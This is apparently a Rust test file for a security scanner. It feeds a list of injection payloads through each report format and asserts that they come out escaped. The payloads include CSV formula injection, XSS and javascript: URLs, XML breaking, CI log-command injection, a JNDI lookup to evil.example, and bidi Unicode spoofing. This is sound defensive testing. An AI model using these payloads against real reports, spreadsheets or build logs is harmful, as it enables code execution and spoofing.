//! That no format lets through what a hostile image says: names that forge lines of a log, commands of build services, formulas,
//! markup. One attack after the other, in every text of a report, through every format.

use crate::clean::is_invisible;
use crate::samples::{HOSTILE, context, render, saying};
use crate::{Context, Filter, Format, LAYERS, SCAN, Wants};

const ATTACKS: &[&str] = &[
    HOSTILE,
    "=HYPERLINK(\"http://evil.example\",\"a\")",
    "+cmd|' /C calc'!A0",
    "a;=cmd()",
    "</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' --><svg onload=alert(1)>",
    "javascript:alert(1)",
    "](javascript:alert(1)) ![x](http://evil.example/x) @all #1 | a",
    "`` ` | </details> ``",
    "]]></failure><failure>",
    "%0A::error::x %0D ;]##[error]",
    "{{ 7 * 7 }} {% raw %} {0} ${jndi:ldap://evil.example}",
    "http://evil.example/\"><img src=x>",
    "\u{202e}gnp.exe\u{200b}\u{e0041}",
    "\r\n##vso[task.complete result=Succeeded;]done",
];

fn each(check: impl Fn(&Format, &str, &str)) {
    let filter = Filter { everything: true, suppressed: true, ..Filter::default() };
    let context = Context { filter, wants: Wants { licenses: true, ..context(100).wants }, ..context(100) };
    for attack in ATTACKS {
        let report = saying(attack);
        for format in SCAN.iter().chain(LAYERS) {
            check(format, attack, &render(format, &report, &context));
        }
    }
}

#[test]
fn nothing_acts_on_a_terminal_or_in_the_log_of_a_build() {
    each(|format, attack, text| {
        let text = if format.name == "csv" { text.replace("\r\n", "\n") } else { text.to_owned() };
        for line in text.lines() {
            assert!(!line.chars().any(is_invisible), "{}: {attack:?}: {line:?}", format.name);
            assert!(!line.trim_start().starts_with("::"), "{}: {attack:?}: {line:?}", format.name);
            // The commands of Azure Pipelines are that format's own, one in a line.
            let own = if format.name == "azure" { line.strip_prefix("##vso[task.logissue type=") } else { None };
            let rest = own.unwrap_or(line);
            assert!(!rest.contains("##vso[") && !rest.contains("##["), "{}: {attack:?}: {line:?}", format.name);
            assert!(
                format.name != "azure" || own.is_some_and(|own| own.matches(']').count() == 1),
                "{attack:?}: {line:?}"
            );
        }
    });
}

#[test]
fn markup_is_shown_and_not_obeyed() {
    let xml = ["junit", "checkstyle", "cyclonedx-xml"];
    each(|format, attack, text| {
        let is_markup = format.name == "html" || xml.contains(&format.name);
        if is_markup {
            let text = shown(text);
            for bad in ["<img", "<svg onload", "<failure>", " onmouseover=\"", "</script><"] {
                assert!(!text.contains(bad), "{}: {attack:?}: {bad}", format.name);
            }
        }
        if format.name == "html" {
            assert!(!text.contains("href=\"javascript"), "{attack:?}");
            assert_eq!(text.matches("<script").count(), 1, "{attack:?}");
            assert_eq!(text.matches("<details>").count(), text.matches("</details>").count(), "{attack:?}");
        }
        if format.name == "markdown" {
            let text = shown(text);
            for bad in ["<img", "<svg", "<script", "](javascript", "![x]", "@all", " #1", "://evil.example/x)"] {
                assert!(!text.contains(bad), "{attack:?}: {bad}: {text}");
            }
            let columns = |line: &str| line.replace("\\|", "").matches('|').count();
            for line in text.lines().filter(|line| line.starts_with("| ")) {
                assert!([4, 8].contains(&columns(line)), "{attack:?}: {line}");
            }
        }
        if format.name == "jenkins" {
            let report: serde_json::Value = serde_json::from_str(text).unwrap();
            for issue in report["issues"].as_array().unwrap() {
                for text in [&issue["message"], &issue["description"]] {
                    let text = text.as_str().unwrap();
                    assert!(!text.contains("<img") && !text.contains("<svg"), "{attack:?}: {text}");
                }
            }
        }
    });
}

#[test]
fn no_cell_is_a_formula() {
    each(|format, attack, text| {
        if format.name != "csv" {
            return;
        }
        let columns = cells(text.lines().next().unwrap()).len();
        for line in text.split_terminator("\r\n") {
            let cells = cells(line);
            assert_eq!(cells.len(), columns, "{attack:?}: {line}");
            for cell in cells {
                for part in cell.split(';') {
                    assert!(!part.trim_start().starts_with(['=', '+', '-', '@']), "{attack:?}: {cell}");
                }
            }
        }
    });
}

/// Markdown without its code, in which nothing has a meaning, and without what a backslash shows.
fn shown(text: &str) -> String {
    let mut shown = String::new();
    for line in text.lines() {
        let mut rest = line;
        while let Some(at) = rest.find(['`', '\\']) {
            shown.push_str(&rest[..at]);
            if rest[at..].starts_with('\\') {
                shown.push(' ');
                rest = rest[at + 1..].chars().next().map_or("", |next| &rest[at + 1 + next.len_utf8()..]);
                continue;
            }
            let fence = rest[at..].len() - rest[at..].trim_start_matches('`').len();
            let inside = &rest[at + fence..];
            let mut end = 0;
            let closed = loop {
                let Some(next) = inside[end..].find('`') else { break None };
                let run = inside[end + next..].len() - inside[end + next..].trim_start_matches('`').len();
                end += next + run;
                if run == fence {
                    break Some(end);
                }
            };
            rest = &inside[closed.unwrap_or_else(|| panic!("code that does not end: {line}"))..];
        }
        shown.push_str(rest);
        shown.push('\n');
    }
    shown
}

/// The cells of a line (RFC 4180); no cell there has a line break in it.
fn cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut characters = line.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                cells.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => cells.push(String::new()),
            _ => cells.last_mut().unwrap().push(character),
        }
    }
    assert!(!quoted, "{line}");
    cells
}

#[test]
fn programs_read_what_was_meant_for_them() {
    each(|format, attack, text| {
        if text.starts_with(['{', '[']) {
            assert!(serde_json::from_str::<serde_json::Value>(text).is_ok(), "{}: {attack:?}", format.name);
        }
    });
}

#[test]
fn the_same_report_is_the_same_bytes() {
    for format in SCAN.iter().chain(LAYERS) {
        let once = render(format, &saying(HOSTILE), &context(80));
        assert_eq!(once, render(format, &saying(HOSTILE), &context(80)), "{}", format.name);
    }
}
